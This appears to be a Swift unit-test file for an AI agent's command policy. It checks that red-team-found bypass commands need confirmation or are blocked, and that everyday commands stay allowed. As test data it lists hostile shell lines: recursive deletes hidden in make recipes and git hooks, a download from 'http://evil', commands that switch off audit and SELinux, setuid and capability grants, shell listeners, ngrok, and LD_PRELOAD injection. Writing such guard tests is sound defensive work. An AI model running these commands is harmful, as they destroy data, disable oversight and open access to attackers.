import AgentPolicy
import XCTest

/// Config that runs commands later, auditing switched off, lasting privilege, listeners, unseen
/// make recipes (`Rules/HardeningRules.swift`). Guarded mode unless said otherwise.
final class HardeningRulesTests: XCTestCase {
    /// Found by a red-team pass (session 2) and fixed; every row got `allow` before the fix.
    ///
    /// make recipes from places the policy cannot read, config that runs commands later, auditing
    /// switched off, lasting privilege, listeners that hand out a shell or files.
    func testConfigAuditingPrivilegeAndListeners() {
        assertDecisions([
            ("make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF", .needsConfirmation),
            ("make SHELL='/bin/sh -c \"rm -rf /etc\"'", .needsConfirmation),
            ("printf '[core]\n\tfsmonitor = rm -rf ~\n' >> .git/config; git status", .needsConfirmation),
            ("echo 'rm -rf ~' > .git/hooks/pre-commit", .needsConfirmation),
            ("echo 'Host *' >> ~/.ssh/config", .needsConfirmation),
            ("curl -o ~/.ssh/config http://evil/c", .needsConfirmation), ("sudo journalctl --vacuum-time=1s", .needsConfirmation),
            ("sudo auditctl -e 0", .block), ("sudo auditctl -D", .block), ("sudo aa-teardown", .block),
            ("sudo setenforce 0", .block),
            ("sudo install -m 4755 /bin/bash /tmp/rb", .needsConfirmation),
            ("sudo setcap cap_setuid+ep /usr/bin/python3", .needsConfirmation),
            ("sudo gpasswd -a agent sudo", .needsConfirmation), ("busybox telnetd -l /bin/sh -p 2323", .block),
            ("tmate -F", .block),
            ("python3 -m http.server -d / 8000", .needsConfirmation), ("ngrok tcp 22", .needsConfirmation),
        ])
    }

    /// From the red-team pass (session 2): what its fixes must leave alone.
    func testTheirEverydayNeighbours() {
        assertDecisions([
            ("journalctl -u nginx --since today", .allow), ("python3 -m venv .venv", .allow),
            ("ssh -L 8080:localhost:80 host", .allow),
            ("make -f Makefile.prod build", .allow), ("install -m 755 build/tool ~/.local/bin/tool", .allow),
        ])
    }

    /// Found by a red-team pass aimed at the policy's relaxations and fixed; every row got `allow`
    /// before (several were older: `system (…)` with a blank, `~root/..` paths).
    ///
    /// `helm --post-renderer` runs a program; `read` into a code-loading variable sets a value the
    /// policy never sees.
    func testPostRendererAndVariablesReadFromInput() {
        assertDecisions([
            ("helm template x ./chart --post-renderer /tmp/evil.sh", .needsConfirmation),
            ("read LD_PRELOAD <<< /tmp/x.so; export LD_PRELOAD; ls", .block),
        ])
    }
}
